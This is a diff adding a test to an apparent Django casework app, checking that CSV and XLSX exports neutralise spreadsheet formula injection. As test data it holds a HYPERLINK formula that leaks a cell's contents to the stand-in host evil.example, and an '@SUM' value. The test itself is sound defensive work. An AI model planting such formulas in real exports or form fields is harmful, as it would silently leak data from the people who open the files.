@@ -153,3 +153,21 @@ def test_extension_requested_for_a_future_date_is_refused(world):
     with pytest.raises(CaseworkError, match="晚于今天 2025-03-20"):
         services.request_extension(world.clerk_a, world.case_a, world.case_a.version, on=dt.date(2025, 4, 1),
                                    days=5, reason="需调取档案")
+
+
+def test_exports_keep_an_applicants_formula_as_text(world, client):
+    """CSV/formula injection: an applicant's "=HYPERLINK(…)" must not become a live formula for the clerk."""
+    import csv as csvmod
+    import io as iomod
+
+    from openpyxl import load_workbook
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")'
+    Case.objects.filter(pk=world.case_a.pk).update(description=evil, requester_name="@SUM(1+1)")
+    client.force_login(world.clerk_a)
+    body = client.get(reverse("cases:export", args=["csv"]) + "?tab=all").content.decode("utf-8-sig")
+    rows = list(csvmod.reader(iomod.StringIO(body)))
+    row = next(r for r in rows if world.case_a.number in r)
+    assert "'" + evil in row and "'@SUM(1+1)" in row
+    wb = load_workbook(iomod.BytesIO(client.get(reverse("cases:export", args=["xlsx"]) + "?tab=all").content))
+    cells = [c for r in wb.active.iter_rows() for c in r if c.value in (evil, "@SUM(1+1)")]
+    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
